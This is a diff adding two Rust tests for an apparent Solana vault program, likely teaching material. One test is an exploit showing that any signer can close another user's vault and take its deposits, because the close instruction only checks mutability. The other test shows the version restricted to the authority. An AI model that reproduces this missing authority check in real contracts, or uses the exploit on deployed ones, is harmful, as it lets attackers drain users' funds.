@@ -0,0 +1,43 @@
+#[tokio::test]
+async fn test_close_any_vault_exploit() {
+    println!("\n=== EXPLOIT: Anyone Closes Alice's Vault ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let vault = open_vault(&alice).await;
+    deposit(&vault, &alice, 50 * LAMPORTS_PER_SOL).await.unwrap();
+    let vault_lamports = get_lamports(&vault).await;
+
+    println!("1. Mallory closes the vault, naming herself as receiver");
+    let before = get_lamports(&mallory.pubkey()).await;
+    // Vulnerable: only `mut` is checked
+    close_vault(&vault, &mallory, &mallory.pubkey()).await.unwrap();
+
+    assert!(get_account(&vault).await.is_none());
+    assert_eq!(get_lamports(&mallory.pubkey()).await - before, vault_lamports - TX_FEE);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 50 SOL of deposits plus rent sent to Mallory");
+}
+
+#[tokio::test]
+async fn test_close_requires_authority() {
+    println!("\n=== SECURITY: Close Restricted To Authority ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let vault = open_vault(&alice).await;
+    deposit(&vault, &alice, 50 * LAMPORTS_PER_SOL).await.unwrap();
+
+    println!("1. Mallory signs close_vault for Alice's vault");
+    let result = close_vault(&vault, &mallory).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintSeeds");
+
+    println!("\n2. Alice closes her own vault");
+    let vault_lamports = get_lamports(&vault).await;
+    let before = get_lamports(&alice.pubkey()).await;
+    close_vault(&vault, &alice).await.unwrap();
+    assert_eq!(get_lamports(&alice.pubkey()).await - before, vault_lamports - TX_FEE);
+    println!("   ✓ Deposits and rent returned to Alice");
+}